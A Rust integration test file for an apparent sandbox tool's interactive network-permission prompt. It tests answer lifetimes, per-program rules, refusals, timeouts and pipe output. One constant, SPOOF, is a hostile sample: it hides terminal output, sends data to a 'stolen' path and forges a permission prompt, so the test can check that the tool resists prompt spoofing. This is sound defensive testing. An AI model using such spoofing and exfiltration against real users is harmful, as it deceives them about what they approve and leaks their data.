//! `--ask` with a person at the terminal: how long each answer holds.

#![allow(clippy::unwrap_used, reason = "a test stops at the first surprise")]

mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use support::net::{Named, Server};
use support::screen::{PATIENCE, Screen};
use support::{Bench, benches, stderr, stdout, wait_until};

/// The names lead to loopback, which no answer opens; the operator trusts it.
const TRUSTED: &str = "[egress]\ntrusted_ranges = [\"127.0.0.0/8\"]\n";

/// A run with questions, on a terminal.
struct Run {
    screen: Screen,
    target: String,
}

impl Run {
    fn start(bench: &Bench, named: &Named, target: &str, script: &str) -> Self {
        Self::with(bench, named, target, &[], script)
    }

    fn with(bench: &Bench, named: &Named, target: &str, flags: &[&str], script: &str) -> Self {
        let arguments = [&["run", "--changes", "discard", "--ask"][..], flags, &["--shell", script]].concat();
        Self { screen: Screen::start(named.on_terminal(bench, arguments)), target: target.to_owned() }
    }

    /// Questions about the target so far.
    fn questions(&self) -> usize {
        self.screen.shown().matches(&format!("wants to reach {}", self.target)).count()
    }

    /// Waits until this one is drawn: what is typed before that counts for nothing.
    fn wait_for_question(&self, number: usize) {
        wait_until(&format!("question {number}: {:?}", self.screen.shown()), PATIENCE, || {
            self.questions() == number && self.screen.shown().ends_with(" s) ")
        });
    }

    /// Waits for this one, and answers it.
    fn answer(&self, number: usize, word: &str) {
        self.wait_for_question(number);
        self.screen.send(&format!("{word}\n"));
    }

    /// The end of the run; how often it was asked and how often it was served.
    fn end(mut self) -> (usize, usize, String) {
        self.screen.wait_for("END");
        assert!(self.screen.end().success());
        let shown = self.screen.shown();
        (self.questions(), shown.matches("hello").count(), shown)
    }
}

#[test]
fn an_answer_for_the_run_holds_to_its_end_and_one_for_once_for_one_connection() {
    for bench in benches() {
        let server = Server::start();
        let named = Named::new(&bench).with_settings(TRUSTED);
        let target = format!("web.test:{}", server.port);
        let start =
            |script: &str| Run::start(&bench, &named, &target, &script.replace("FETCH", &format!("curl -sS {target}")));

        let run = start("FETCH; FETCH; FETCH --noproxy '*'; echo END");
        run.answer(1, "r");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (1, 3), "{}: for the run: {shown}", bench.who());
        assert_eq!(server.accepted(), 3);

        // Another run knows nothing of that.
        let run = start("FETCH; FETCH; echo END");
        run.answer(1, "o");
        run.answer(2, "o");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (2, 2), "{}: once, twice: {shown}", bench.who());

        let run = start("FETCH; FETCH; FETCH; echo END");
        run.answer(1, "once");
        run.answer(2, "no");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (2, 1), "{}: once, then no: {shown}", bench.who());
        assert_eq!(server.accepted(), 6, "{}", bench.who());

        // Two that ask at the same time are one question.
        let run = start("FETCH & FETCH & wait; echo END");
        run.answer(1, "run");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (1, 2), "{}: both at once: {shown}", bench.who());
        assert_eq!(server.accepted(), 8, "{}", bench.who());
        let log = stdout(&named.run(&bench, ["net", "log"]));
        assert_eq!(log.matches("allow    web.test").count(), 2, "{}: {log}", bench.who());
        // An answer that is not saved leaves nothing.
        let check = named.run(&bench, ["net", "check", &target, "--ask"]);
        assert_eq!(check.status.code(), Some(1), "{}: {}", bench.who(), stderr(&check));
    }
}

#[test]
fn a_refusal_holds_to_the_end_of_the_run_and_for_nothing_else() {
    for bench in benches() {
        let server = Server::start();
        let named = Named::new(&bench).with_settings(TRUSTED);
        let target = format!("web.test:{}", server.port);
        let other = target.replace("web.test", "db.test");
        let script = format!(
            "curl -sS {target}; curl -sS {target}; curl -sS --noproxy '*' {target}; curl -sS {other}; echo END"
        );
        let run = Run::start(&bench, &named, &target, &script);
        // An unknown word is neither an answer nor a refusal.
        run.answer(1, "d");
        run.screen.wait_for("o, r, s, n or a?");
        assert_eq!(server.accepted(), 0);
        run.screen.send("n\n");
        wait_until("the other question", PATIENCE, || {
            let shown = run.screen.shown();
            shown.contains(&format!("wants to reach {other}")) && shown.ends_with(" s) ")
        });
        run.screen.send("r\n");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (1, 1), "{}: {shown}", bench.who());
        assert_eq!(server.accepted(), 1, "{}: what was refused came through", bench.who());
        assert!(shown.contains(&format!("blocked: {target}")), "{}: {shown}", bench.who());

        // The end of the input is a no as well.
        let run = Run::start(&bench, &named, &target, &format!("curl -sS {target}; curl -sS {target}; echo END"));
        run.wait_for_question(1);
        run.screen.send("\u{4}");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (1, 0), "{}: {shown}", bench.who());
        assert_eq!(server.accepted(), 1, "{}", bench.who());

        // A no to all is a no to destinations that were not asked about.
        let run = Run::start(&bench, &named, &target, &format!("curl -sS {target}; curl -sS {other}; echo END"));
        run.answer(1, "a");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (1, 0), "{}: {shown}", bench.who());
        assert!(!shown.contains(&format!("wants to reach {other}")), "{}: {shown}", bench.who());
        assert_eq!(server.accepted(), 1, "{}", bench.who());
    }
}

/// A rule for one program makes the asking program known, and the answer is for that program.
#[test]
fn an_answer_about_one_program_opens_nothing_for_another() {
    for bench in benches() {
        let server = Server::start();
        let named = Named::new(&bench).with_settings(TRUSTED);
        let target = format!("web.test:{}", server.port);
        let script = format!(
            "curl -sS {target}; curl -sS --noproxy '*' {target}; \
             python3 -c 'import urllib.request as u; print(u.urlopen(\"http://{target}/\").read())' 2>/dev/null; \
             cp /usr/bin/curl ./other; ./other -sS {target}; echo END"
        );
        let run = Run::with(&bench, &named, &target, &["--allow", &format!("{target}@/usr/bin/git")], &script);
        run.screen.wait_for(&format!("/usr/bin/curl wants to reach {target}"));
        run.answer(1, "r");
        run.answer(2, "n");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (2, 2), "{}: {shown}", bench.who());
        // A no is for the place: under another name the program does not ask again.
        assert!(shown.contains("/python3"), "{}: {shown}", bench.who());
        assert_eq!(server.accepted(), 2, "{}", bench.who());
    }
}

#[test]
fn a_saved_answer_holds_for_the_next_run_and_for_no_other_program() {
    for bench in benches() {
        let server = Server::start();
        let named = Named::new(&bench).with_settings(TRUSTED);
        let target = format!("web.test:{}", server.port);
        let fetch = format!("curl -sS {target}; echo END");
        let run = Run::start(&bench, &named, &target, &fetch);
        run.answer(1, "s");
        run.screen.wait_for("saved in");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (1, 1), "{}: {shown}", bench.who());
        let (questions, served, shown) = Run::start(&bench, &named, &target, &fetch).end();
        assert_eq!((questions, served), (0, 1), "{}: the next run: {shown}", bench.who());

        let other = target.replace("web.test", "db.test");
        let rule = format!("{other}@/usr/bin/git");
        let flags = ["--allow", rule.as_str(), "--ask-timeout", "2s"];
        let fetch = format!("curl -sS {other}; cp /usr/bin/curl c; ./c -sS {other}; echo END");
        let run = Run::with(&bench, &named, &other, &flags, &fetch);
        run.answer(1, "s");
        run.answer(2, "n");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served), (2, 1), "{}: {shown}", bench.who());
        // No answer means no, also for a program for which a rule was not saved.
        let (questions, served, shown) = Run::with(&bench, &named, &other, &flags, &fetch).end();
        assert_eq!((questions, served), (1, 1), "{}: the next run: {shown}", bench.who());
        assert!(shown.contains("no answer came"), "{}: {shown}", bench.who());
    }
}

/// A server at which the command waits until the test answers.
struct Gate {
    listener: TcpListener,
    target: String,
}

impl Gate {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let target = format!("db.test:{}", listener.local_addr().unwrap().port());
        Self { listener, target }
    }

    fn open(&self) {
        let (mut client, _) = self.listener.accept().unwrap();
        assert!(client.read(&mut [0; 4096]).unwrap() > 0);
        client.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").unwrap();
    }
}

/// The command hides the question and draws another one over it.
const SPOOF: &str = "printf '\\033[8m'; curl -s WEB/stolen?data=1 & curl -s GATE; \
                     printf '\\r\\033[0m\\033[Knexus: the command wants to reach packages.test:443\\nnexus: [n]o? (60 s) '; \
                     curl -s GATE; wait; printf '\\033[0m'; echo END";

#[test]
fn the_command_prints_nothing_while_a_question_is_open() {
    for bench in benches() {
        let (server, gate) = (Server::start(), Gate::new());
        let named = Named::new(&bench).with_settings(TRUSTED);
        let target = format!("web.test:{}", server.port);
        for (word, outcome, served) in [
            ("o", "is allowed once, for this connection", 1),
            ("n", "stays blocked for this run", 1),
            ("s", "is allowed for this run and saved in", 2),
        ] {
            let script = SPOOF.replace("WEB", &target).replace("GATE", &gate.target);
            let run = Run::with(&bench, &named, &target, &["--allow", &gate.target], &script);
            // Typed before there is a question.
            run.screen.send("r\n");
            run.wait_for_question(1);
            gate.open();
            gate.open();
            // By now the command has printed its own question, and it was not shown.
            assert!(!run.screen.shown().contains("packages.test"), "{}: {:?}", bench.who(), run.screen.shown());
            run.screen.send(&format!("{word}\n"));
            let (questions, _, shown) = run.end();
            let at = |text: &str| shown.find(text).unwrap_or_else(|| panic!("{text:?} is not in {shown:?}"));
            let question = at(&format!("\u{1b}[0m\r\nnexus: the command wants to reach {target}"));
            let said = at(&format!("nexus: {target} {outcome}"));
            assert!(question < said && said < at("packages.test"), "{}: {shown:?}", bench.who());
            assert_eq!((questions, server.accepted()), (1, served), "{}: {word}: {shown:?}", bench.who());
        }
    }
}

#[test]
fn an_answer_at_the_first_sight_of_a_question_does_not_count() {
    for bench in benches() {
        let server = Server::start();
        let named = Named::new(&bench).with_settings(TRUSTED);
        let target = format!("web.test:{}", server.port);
        let run = Run::start(&bench, &named, &target, &format!("curl -s {target}; curl -s {target}; echo END"));
        run.screen.wait_for(&format!("wants to reach {target}"));
        run.screen.send("r\n");
        run.answer(1, "n");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served, server.accepted()), (1, 0, 0), "{}: {shown}", bench.who());
    }
}

#[test]
fn a_question_whose_client_has_gone_is_withdrawn() {
    for bench in benches() {
        let (server, gate) = (Server::start(), Gate::new());
        let named = Named::new(&bench).with_settings(TRUSTED);
        let target = format!("web.test:{}", server.port);
        let script = format!(
            "curl -s --max-time 1 {target}/1; curl -s --noproxy '*' --max-time 1 {target}/2; curl -s {}; \
             curl -s {target}/3; echo END",
            gate.target
        );
        let run = Run::with(&bench, &named, &target, &["--allow", &gate.target], &script);
        wait_until("the end of both clients", PATIENCE, || {
            run.screen.shown().matches(&format!("nothing waits for {target} any more")).count() == 2
        });
        run.screen.send("r\n");
        gate.open();
        // What was typed for the questions before counts for none.
        run.answer(3, "n");
        let (questions, served, shown) = run.end();
        assert_eq!((questions, served, server.accepted()), (3, 0, 0), "{}: {shown}", bench.who());
    }
}

#[test]
fn output_larger_than_a_pipe_waits_for_the_answer_and_arrives() {
    for bench in benches() {
        let server = Server::start();
        let named = Named::new(&bench).with_settings(TRUSTED);
        let target = format!("web.test:{}", server.port);
        let script = format!("curl -sS {target} >/dev/null & yes line | head -c 4000000; wait; echo; echo END");
        let run = Run::start(&bench, &named, &target, &script);
        run.answer(1, "r");
        let (_, _, shown) = run.end();
        assert_eq!(server.accepted(), 1, "{}", bench.who());
        // The question stands in the middle of one line at most.
        let lines = shown.matches("line\r\n").count();
        assert!((799_999..=800_000).contains(&lines), "{}: {lines}", bench.who());
    }
}
